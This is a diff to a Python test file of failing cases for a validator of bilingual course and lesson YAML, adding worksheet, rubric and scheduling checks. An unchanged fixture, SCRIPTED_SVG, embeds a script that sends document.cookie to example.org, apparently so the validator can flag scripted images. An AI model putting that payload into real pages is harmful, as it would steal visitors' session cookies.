@@ -6,8 +6,8 @@ docs/problems.md (the catalogue of problems, generated from these cases).
 
 from __future__ import annotations
 
-from dataclasses import dataclass, field
 from collections.abc import Callable
+from dataclasses import dataclass, field
 
 from conftest import MINIMAL
 from plugins import install_output
@@ -49,6 +49,20 @@ FAILING_OUTPUT = """\
     """
 SCRIPTED_SVG = ("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 10 10'>\n"
                 "  <script>fetch('https://example.org/?' + document.cookie)</script>\n</svg>\n")
+WORKSHEET = """\
+        worksheets:
+          - code: LK-1
+            title: {{id: Lembar kerja, en: Worksheet}}
+            instructions: {{id: Tulis., en: Write.}}
+            prompts: [{{text: {{id: Jawaban, en: Answer}}}}]
+            indicators: [IND-1]
+            bloom: C2
+            assessed: true
+{extra}"""
+GROUP_RUBRIC = """\
+            grouping: small_groups
+            rubric: [{level: 1, text: {id: Cukup, en: Enough}}]
+"""
 
 
 @dataclass
@@ -122,6 +136,36 @@ CASES = [
     Case("answer-not-option", "an answer that is not an option", lesson("answer: a", "answer: c")),
     Case("duplicate-option", "two options with the same key",
          lesson("- {key: b, text: {id: Dua, en: Two}}", "- {key: a, text: {id: Dua, en: Two}}")),
+    Case("indicator-unmeasured", "an indicator no item or scored worksheet measures",
+         lesson("            indicator: IND-1\n", "")),
+    Case("below-indicator", "a recall item measuring an indicator at a higher level",
+         lesson("Secret rationale.}\n            bloom: C2", "Secret rationale.}\n            bloom: C1")),
+    Case("worksheet-without-rubric", "an assessed worksheet without a rubric",
+         lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="") + "        references: [ref_2020]\n")),
+    Case("group-evidence-only", "an individual indicator measured only by a group worksheet",
+         {LESSON: MINIMAL[LESSON].replace("            indicator: IND-1\n", "").replace(
+             "        references: [ref_2020]\n", WORKSHEET.format(extra=GROUP_RUBRIC) + "        references: [ref_2020]\n")}),
+    Case("activity-without-indicator", "an activity that serves no indicator",
+         lesson("            indicators: [IND-1]\n", "")),
+    Case("activity-does-not-scale", "presentations by every group that do not fit a class of 30",
+         {**course("languages: [id, en]", "languages: [id, en]\n        class_size: 30"),
+          **lesson("            indicators: [IND-1]\n",
+                   "            indicators: [IND-1]\n            group_size: 5\n            per_group_minutes: 10\n")}),
+    Case("block-too-long", "a lesson longer than the course's limit without a break",
+         course("languages: [id, en]", 'languages: [id, en]\n        max_block_minutes: 30\n        schedule:\n'
+                '          - start: "08:00"\n            slots:\n              - lesson: LES-1')),
+    Case("task-without-time", "homework due at the end of a coffee break",
+         {**course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
+                   '            slots:\n              - lesson: LES-1\n'
+                   '              - {title: {id: Rehat kopi, en: Coffee break}, minutes: 15, type: break, code: REHAT-1}'),
+          **lesson("            indicators: [IND-1]\n",
+                   "            indicators: [IND-1]\n            homework: {minutes: 20, due: REHAT-1}\n")}),
+    Case("wrong-lesson-reference", "a sentence that sends participants to the wrong lesson for a worksheet",
+         {**lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="") + "        references: [ref_2020]\n"),
+          "modules/m1/les-2.yaml": MINIMAL[LESSON].replace("code: LES-1", "code: LES-2").replace(
+              "participant_instructions: {id: Dengarkan., en: Listen.}",
+              "participant_instructions: {id: Bawa LK-1 dari LES-2., en: Bring LK-1 from LES-2.}"),
+          "modules/m1/module.yaml": MINIMAL["modules/m1/module.yaml"].replace("[LES-1]", "[LES-1, LES-2]")}),
     Case("bad-dates", "a course that ends before it starts",
          course("languages: [id, en]", "languages: [id, en]\n        dates: {start: 2027-03-02, end: 2027-03-01}")),
     Case("bad-slot", "a schedule slot that is neither a lesson nor a timed break",
